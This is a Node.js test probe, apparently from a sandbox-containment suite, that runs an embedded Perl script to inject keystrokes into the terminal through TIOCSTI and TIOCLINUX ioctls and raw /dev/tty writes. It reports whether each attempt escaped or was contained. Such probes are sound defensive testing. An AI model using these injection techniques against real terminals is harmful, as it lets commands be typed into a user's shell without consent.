// T10 (+T29): terminal injection (Node version of tty_inject.py). argv: TOKEN
// Node has no ioctl(): an attacker in Node runs a tool that has one. perl (perl-base, always in
// Debian's /usr) does the classic TIOCSTI loop, on the fds it inherits from us, with 32-bit and
// 64-bit command numbers, before and after adopting stdin as its controlling terminal.
'use strict';
const cp = require('child_process');
const fs = require('fs');
const TOKEN = process.argv[2];

function out(tag, what, detail) {
  console.log(`${tag} ${what}${detail ? ' ' + detail : ''}`);
}

const perl = `
use strict; use POSIX ();
my $tok = shift;
my $data = "\\nabesc-injected-$tok\\n";
sub say_ { print STDERR "@_\\n" }
sub inject {
  my ($fh, $cmd, $what) = @_;
  for my $c (split //, $data) {
    my $arg = ($cmd & 0xffffffff) == 0x541C ? "\\x03$c" : $c;
    if (!defined ioctl($fh, $cmd, $arg)) { say_("CONTAINED $what " . ($!+0)); return; }
  }
  say_("ESCAPED $what succeeded");
}
sub all_ {
  my ($tag) = @_;
  my @fhs = (["0", \\*STDIN], ["1", \\*STDOUT]);
  if (open(my $t, "+<", "/dev/tty")) {
    push @fhs, ["devtty", $t];
    say_(($tag eq "before" ? "ESCAPED" : "NOTE") . " open-dev-tty-$tag opened");
  }
  else { say_("CONTAINED open-dev-tty-$tag " . ($!+0)) }
  for my $f (@fhs) {
    for my $c (["tiocsti", 0x5412], ["tioclinux", 0x541C]) {
      inject($f->[1], $c->[1], "perl-$c->[0]-fd$f->[0]-$tag");
      inject($f->[1], $c->[1] | (1 << 32), "perl-$c->[0]64-fd$f->[0]-$tag");
    }
  }
}
all_("before");
if (-t STDIN) {
  POSIX::setsid();
  if (defined ioctl(STDIN, 0x540E, 0)) { say_("NOTE adopted-stdin-as-controlling-terminal") }
  all_("after-setsid");
  if (open(my $t, ">", "/dev/tty")) {
    print $t "\\e]0;abesc-raw-$tok\\aabesc-raw-$tok\\n"; close($t);
    say_("ESCAPED raw-write-to-terminal-dev-tty wrote past the relay");
  } else { say_("CONTAINED raw-write-to-terminal-dev-tty " . ($!+0)) }
} else { say_("CONTAINED stdin-is-not-a-terminal") }
`;
// perl reports on stderr (its stdout is one of the fds under attack)
const r = cp.spawnSync('/usr/bin/perl', ['-e', perl, TOKEN],
                       { stdio: ['inherit', 'inherit', 'pipe'], encoding: 'utf8', timeout: 20000 });
if (r.error) out('ESCAPED', 'perl-did-not-run', r.error.code);
const errnos = { 1: 'EPERM', 6: 'ENXIO', 13: 'EACCES', 22: 'EINVAL', 25: 'ENOTTY' };
for (const l of String(r.stderr).split('\n').filter((x) => /^(CONTAINED|ESCAPED|NOTE) /.test(x))) {
  const [tag, what, d] = l.split(' ');
  console.log(`${tag} ${what}${d ? ' ' + (errnos[d] || d) : ''}`);
}
// and Node's own view: /dev/tty without a controlling terminal
try {
  fs.closeSync(fs.openSync('/dev/tty', 'r+'));
  out('ESCAPED', 'node-open-dev-tty', 'a controlling terminal exists');
} catch (e) {
  out('CONTAINED', 'node-open-dev-tty', e.code);
}
console.log('DONE tty_inject');
